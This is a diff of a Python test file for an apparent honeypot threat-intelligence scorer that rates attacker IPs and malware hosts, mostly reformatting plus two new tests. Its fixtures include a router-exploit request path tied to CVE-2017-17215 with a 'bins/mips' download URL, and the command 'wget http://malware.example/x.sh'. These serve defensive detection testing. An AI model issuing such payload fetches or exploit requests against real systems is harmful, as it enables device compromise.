@@ -26,12 +26,33 @@ PARAMS = load_params()
 IDS = UuidV7Factory(SeededEntropy(3))
 
 
-def ev(body: EventBody, *, at: datetime = T0, sensor: str = "s1", location: str = "eu",
-       src: str = "198.51.100.20", cves: list[str] | None = None, techniques: list[str] | None = None,
-       iocs: list[Ioc] | None = None) -> Event:
-    return Event(id=IDS.new(at), ts=at, sensor=sensor, location=location, session="x",
-                 kind=body.__struct_config__.tag, src_ip=src, src_port=40000, dst_port=80,  # type: ignore[arg-type]
-                 protocol="http", body=body, cves=cves or [], techniques=techniques or [], iocs=iocs or [])
+def ev(
+    body: EventBody,
+    *,
+    at: datetime = T0,
+    sensor: str = "s1",
+    location: str = "eu",
+    src: str = "198.51.100.20",
+    cves: list[str] | None = None,
+    techniques: list[str] | None = None,
+    iocs: list[Ioc] | None = None,
+) -> Event:
+    return Event(
+        id=IDS.new(at),
+        ts=at,
+        sensor=sensor,
+        location=location,
+        session="x",
+        kind=body.__struct_config__.tag,
+        src_ip=src,
+        src_port=40000,
+        dst_port=80,  # type: ignore[arg-type]
+        protocol="http",
+        body=body,
+        cves=cves or [],
+        techniques=techniques or [],
+        iocs=iocs or [],
+    )
 
 
 def get(target: str = "/") -> HttpRequest:
@@ -60,8 +81,13 @@ def test_an_exploit_outweighs_many_probes_and_reveals_the_malware_host() -> None
     book = IndicatorBook(PARAMS)
     book.observe_events([ev(get(), src="198.51.100.1") for _ in range(5)])
     url = "http://203.0.113.50/bins/mips"
-    exploit = ev(get("/shell?cd+/tmp"), src="198.51.100.2", cves=["CVE-2017-17215"], techniques=["T1190"],
-                 iocs=[Ioc(type="url", value=url, role="download")])
+    exploit = ev(
+        get("/shell?cd+/tmp"),
+        src="198.51.100.2",
+        cves=["CVE-2017-17215"],
+        techniques=["T1190"],
+        iocs=[Ioc(type="url", value=url, role="download")],
+    )
     book.observe_events([exploit])
     prober = book.get("ip", "198.51.100.1", T0)
     exploiter = book.get("ip", "198.51.100.2", T0)
@@ -100,8 +126,9 @@ def test_one_sensor_alone_is_capped() -> None:
 def test_decay_follows_the_half_life_and_new_sightings_renew() -> None:
     clock = FakeClock(T0)
     book = IndicatorBook(PARAMS)
-    book.observe_events([ev(SshLogin(username="root", method="password", password="x"), src="198.51.100.9")
-                         for _ in range(3)])
+    book.observe_events(
+        [ev(SshLogin(username="root", method="password", password="x"), src="198.51.100.9") for _ in range(3)]
+    )
     half_life = PARAMS.half_life_seconds("ip", "bruteforcer")
     s = PARAMS.strength_of("bruteforce")
     start = book.get("ip", "198.51.100.9", clock.now())
@@ -113,8 +140,12 @@ def test_decay_follows_the_half_life_and_new_sightings_renew() -> None:
     clock.advance(half_life * 10)
     gone = book.get("ip", "198.51.100.9", clock.now())
     assert gone is not None and gone.state == "expired"
-    book.observe_events([ev(SshLogin(username="root", method="password", password="x"), src="198.51.100.9",
-                            at=clock.now()) for _ in range(20)])
+    book.observe_events(
+        [
+            ev(SshLogin(username="root", method="password", password="x"), src="198.51.100.9", at=clock.now())
+            for _ in range(20)
+        ]
+    )
     back = book.get("ip", "198.51.100.9", clock.now())
     assert back is not None and back.state == "candidate" and back.confidence > later.confidence
 
@@ -156,8 +187,12 @@ def test_evidence_is_bounded_and_keeps_the_strongest() -> None:
 
 def test_downloads_and_connects() -> None:
     book = IndicatorBook(PARAMS)
-    book.observe_events([ev(Connect()), ev(Download(url="http://malware.example/x.sh", tool="wget",
-                                                    command="wget http://malware.example/x.sh"))])
+    book.observe_events(
+        [
+            ev(Connect()),
+            ev(Download(url="http://malware.example/x.sh", tool="wget", command="wget http://malware.example/x.sh")),
+        ]
+    )
     host = book.get("domain", "malware.example", T0)
     assert host is not None and host.roles == ["malware-host"]
     src = book.get("ip", "198.51.100.20", T0)
@@ -174,3 +209,43 @@ def test_junk_urls_reveal_no_host(bad: str) -> None:
     book.observe_events([ev(get(), iocs=[Ioc(type="url", value=bad, role="download")])])
     hosts = [i for i in book.indicators(T0) if i.type in ("ip", "domain") and i.value != "198.51.100.20"]
     assert hosts == []
+
+
+def test_the_quick_confidence_is_the_explained_one() -> None:
+    """get/indicators skip the explanation's terms: the figure and state must not change for it."""
+    book = IndicatorBook(PARAMS)
+    kinds: list[EventBody] = [get(), SshLogin(username="root", method="password", password="x"), Connect()]
+    events = [
+        ev(
+            kinds[i % 3],
+            at=T0 + timedelta(hours=i),
+            sensor=f"s{i % 3}",
+            location=f"l{i % 2}",
+            src=f"198.51.100.{i % 7}",
+            cves=["CVE-2021-44228"] if i % 5 == 0 else None,
+            iocs=[Ioc(type="url", value=f"http://203.0.113.{i % 4}/x", role="download")] if i % 6 == 0 else None,
+        )
+        for i in range(60)
+    ]
+    book.observe_events(events)
+    book.observe_feed(type_="ip", value="198.51.100.3", role="scanner", confidence=70, source="feed.csv", at=T0)
+    for later in (timedelta(0), timedelta(days=3), timedelta(days=40)):
+        now = T0 + timedelta(hours=60) + later
+        indicators = book.indicators(now)
+        assert len(indicators) >= 10
+        for indicator in indicators:
+            explained = book.explain(indicator.type, indicator.value, now)
+            assert explained is not None
+            assert indicator.confidence == explained.score.confidence == explained.indicator.confidence
+            assert indicator.state == explained.indicator.state
+
+
+def test_take_touched_gives_each_changed_indicator_once() -> None:
+    book = IndicatorBook(PARAMS)
+    book.observe_events([ev(get(), src="198.51.100.1"), ev(get(), src="198.51.100.1"), ev(get(), src="198.51.100.2")])
+    first = book.take_touched(T0)
+    assert sorted(i.value for i in first) == ["198.51.100.1", "198.51.100.2"]
+    assert next(i for i in first if i.value == "198.51.100.1").sightings == 2
+    assert book.take_touched(T0) == []
+    book.observe_events([ev(get(), src="198.51.100.2")])
+    assert [i.value for i in book.take_touched(T0)] == ["198.51.100.2"]
